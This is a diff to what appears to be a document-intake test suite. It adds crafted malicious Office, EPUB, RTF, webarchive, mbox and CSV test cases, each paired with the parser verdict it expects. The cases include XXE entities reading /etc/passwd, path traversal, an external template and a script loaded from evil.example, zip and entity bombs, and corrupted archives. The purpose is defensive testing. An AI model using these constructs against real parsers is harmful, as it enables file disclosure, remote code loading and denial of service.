@@ -9,6 +9,7 @@ import gzip
 import io
 import json
 import os
+import re
 import sys
 import textwrap
 import zipfile
@@ -17,7 +18,7 @@ from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Literal, NamedTuple
 
-from tests.intake.packages import docx
+from tests.intake.packages import WORD, docx, epub, mbox, packed, unpacked, webarchive, word
 from tests.intake.sheets import AES_EMPTY, AES_SECRET
 
 Verdict = Literal["good", "none", "unreadable", "either"]
@@ -423,6 +424,76 @@ def _front_matter() -> Iterator[Case]:
     yield Case("matter/quotes.md", (text(959) + "\n\n" + ">" * 8_000).encode(), "good")
 
 
+def _documents() -> Iterator[Case]:
+    """Office documents, e-books, archives and tables that were made to do harm, or that somebody edited."""
+    fine, body = text(1100).split("\n\n"), "<w:p><w:r><w:t>%s</w:t></w:r></w:p>"
+    yield Case(
+        "documents/macros.docx", packed({**unpacked(docx(fine)), "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "good"
+    )
+    outside = '<Relationships><Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+    yield Case(
+        "documents/template.docx",
+        packed({**unpacked(docx(text(1101).split("\n\n"))), "word/_rels/settings.xml.rels": outside}),
+        "good",
+    )
+    elsewhere = '<Relationships><Relationship Type="x/officeDocument" Target="../../../etc/passwd"/></Relationships>'
+    yield Case("documents/main-part.docx", packed({**unpacked(docx(fine)), "_rels/.rels": elsewhere}), "unreadable")
+    yield Case(
+        "documents/path.docx", packed({**unpacked(docx(text(1102).split("\n\n"))), "../../../tmp/x": b"x"}), "good"
+    )
+    changed = "<w:del><w:r><w:delText>No, she said.</w:delText></w:r></w:del><w:commentReference/>"
+    edited = "".join(body % one for one in text(1103).split("\n\n")).replace("</w:p>", changed + "</w:p>")
+    yield Case("documents/edited.docx", word(edited), "good")
+    yield Case(
+        "documents/bomb.docx",
+        packed({"word/document.xml": b" " * 20_000_000}, method=zipfile.ZIP_DEFLATED),
+        "unreadable",
+    )
+    yield Case("documents/bomb.odt", packed({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": b" " * 20_000_000}, method=zipfile.ZIP_DEFLATED), "unreadable")  # fmt: skip
+    lots = docx(fine)
+    end = lots.rindex(b"PK\x05\x06")
+    yield Case(
+        "documents/many-files.docx",
+        lots[: end + 12] + (3_000_000).to_bytes(4, "little") + lots[end + 16 :],
+        "unreadable",
+    )
+    yield Case("documents/cut.docx", lots[: len(lots) // 2], "unreadable")
+    yield Case("documents/noise.docx", b"PK\x03\x04" + bytes(range(256)) * 9, "unreadable")
+    yield Case("documents/crc.docx", lots.replace(b"harbour", b"harbuor", 1), "unreadable")
+    locked = re.sub(rb"(PK\x01\x02.{4})\x00", lambda found: found[1] + b"\x01", lots, flags=re.DOTALL)
+    yield Case("documents/locked.docx", locked, "unreadable")
+    for name, entity in (
+        ("entities", _entity_bomb().partition("]>")[0] + "]>"),
+        ("outside", '<!DOCTYPE x [<!ENTITY e19 SYSTEM "file:///etc/passwd">]>'),
+    ):
+        made = f"{entity}<w:document xmlns:w='{WORD}'><w:body>{body % '&e19;'}</w:body></w:document>"
+        yield Case(f"documents/{name}.docx", packed({"word/document.xml": made}), "unreadable")
+    yield Case("documents/deep.docx", packed({"word/document.xml": "<w>" * 100_000}), "unreadable")
+    yield Case(
+        "documents/scripts.epub",
+        epub({"a.xhtml": page(1104, head="<script src='https://evil.example/x.js'/>")}),
+        "good",
+    )
+    yield Case("documents/path.epub", epub({"../../../../etc/passwd": page(1105)}), "either")
+    circle = '<c><rootfile full-path="META-INF/container.xml"/></c>'
+    yield Case("documents/circle.epub", epub({}, extra={"META-INF/container.xml": circle}), "unreadable")
+    yield Case("documents/many.epub", epub({f"{at}.xhtml": "<p/>" for at in range(1200)}), "unreadable")
+    yield Case(
+        "documents/bomb.epub", epub({f"{at}.xhtml": "<p>" + "It is. " * 60_000 for at in range(30)}), "unreadable"
+    )
+    yield Case("documents/groups.rtf", b"{\\rtf1 " + b"{" * 100_000, "unreadable")
+    yield Case("documents/letters.rtf", b"{\\rtf1 " + b"\\'41" * 3_000_000, "unreadable")
+    yield Case("documents/binary.rtf", b"{\\rtf1 \\bin999999999 " + text(1107).encode(), "unreadable")
+    yield Case("documents/object.rtf", b"{\\rtf1{\\object\\objocx{\\*\\objdata 01050000}}" + text(1108).replace("\n\n", "\\par ").encode() + b"}", "good")  # fmt: skip
+    laughs = b'<?xml version="1.0"?><!DOCTYPE plist [<!ENTITY a "x">]><plist><dict><key>WebMainResource</key><string>&a;</string></dict></plist>'
+    yield Case("documents/entities.webarchive", laughs, "unreadable")
+    yield Case("documents/cut.webarchive", webarchive(page(1109))[:-40], "unreadable")
+    yield Case("documents/many.mbox", mbox(["Subject: a\n\nIt is."] * 2_000), "unreadable")
+    yield Case("documents/never-closes.csv", f'title,text\nThe lock,"{LEAD}\n'.encode() * 50, "unreadable")
+    yield Case("documents/many-rows.csv", b"title,text\n" + b"a,b\n" * 100_000, "unreadable")
+    yield Case("documents/nuls.csv", ("title,text\nThe lock,\x00" + " ".join(BODY)).encode(), "good")
+
+
 def _names() -> Iterator[Case]:
     for at, name in enumerate(
         (
@@ -486,6 +557,7 @@ GROUPS: dict[str, Callable[[], Iterator[Case]]] = {
     "packed": _packed,
     "structured": _structured,
     "front matter": _front_matter,
+    "documents": _documents,
     "names": _names,
     "slow": _slow,
 }
